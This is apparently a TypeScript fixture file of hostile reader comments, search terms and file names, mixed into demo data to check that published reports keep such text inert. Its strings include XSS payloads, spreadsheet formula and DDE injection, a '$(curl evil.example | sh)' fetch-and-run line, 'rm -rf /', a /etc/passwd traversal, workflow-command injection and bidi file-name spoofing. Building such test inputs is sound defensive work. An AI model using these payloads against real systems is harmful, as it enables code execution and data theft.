// Text that readers and visitors really send, at its worst: Markdown, HTML and table
// breakers, mentions, links, bidirectional controls, workflow commands, spreadsheet formula
// openers and very long strings. Reports that publish comments or search terms must keep all
// of it inert; the demo data mixes these in so that `npm run demo` shows whether they do.

const LONG_RANT = `${'This page does not say which carrier accounts support return labels, and the example fails. '.repeat(60)}END-OF-LONG-COMMENT`;

/** Feedback comments (free text of readers and agents). */
export const HOSTILE_COMMENTS: readonly string[] = [
  '**Wrong!** See [the real docs](https://evil.example/phish) <img src=x onerror=alert(1)>',
  '@acme/docs-team @everyone please fix this before Friday',
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open the fix")',
  "+cmd|' /C calc'!A0",
  '-2+3 labels were charged twice',
  '| injected | table |\n|---|---|\n| row | row |',
  '```\nthe fence closes here\n```\nand this is outside it',
  'the `code` sample has an unclosed backtick: `npm install',
  'Invoice \u202Egnp.exe\u202C is what the download is called, and \u2066this text is isolated\u2069',
  'zero\u200Bwidth\u200Dspaces and a soft\u00ADhyphen in here',
  '<script>alert(document.cookie)</script>',
  '</td></tr></table><details open><summary>Click</summary>surprise</details>',
  '<!-- hidden comment --> visible part',
  'First line\n\n# Injected heading\n\n- injected list item\n> injected quote',
  '::error file=src/main.ts,line=1::injected annotation',
  '::add-mask::nothing to mask\n::stop-commands::pause',
  '${{ secrets.GITHUB_TOKEN }} and $(curl evil.example | sh)',
  'Fixes #1, closes acme/docs#12 :shipit: ~~struck~~ <kbd>Ctrl</kbd>',
  '\u001b[31mred ANSI text\u001b[0m and a bell\u0007',
  'https://evil.example/a-bare-link?x=1&y=<2>',
  '&lt;b&gt;already escaped&lt;/b&gt; &amp; &#x3C;script&#x3E;',
  '\\| backslash-pipe \\* backslash-star \\\\ double backslash',
  LONG_RANT,
];

/** Search terms as visitors type them. */
export const HOSTILE_SEARCH_TERMS: readonly string[] = [
  '<script>alert(1)</script>',
  '=HYPERLINK("https://evil.example/?q="&A1,"docs")',
  '@everyone refund now',
  '| status | pending |',
  '[free labels](https://evil.example)',
  '`rm -rf /`',
  'invoice \u202Efdp.exe',
  '${{ secrets.GITHUB_TOKEN }}',
  '::error::search injected',
  '<img src=x onerror=alert(1)>',
  `how do i ${'really '.repeat(70)}cancel a label`,
  '+SUM(1+1)',
  'tracking\nnumber',
  '**bold** _italic_ ~~struck~~',
];

/** File names of code snippets (which reports may publish beside the language). */
export const HOSTILE_FILENAMES: readonly string[] = [
  '../../etc/passwd',
  '<img src=x onerror=alert(1)>.js',
  'pipe|name.py',
  '`tick`.sh',
  '=cmd.xlsx',
];

/** Languages of code snippets, as a client labelled them. */
export const HOSTILE_LANGS: readonly string[] = ['<svg onload=alert(1)>', 'shell | session', '@lang'];
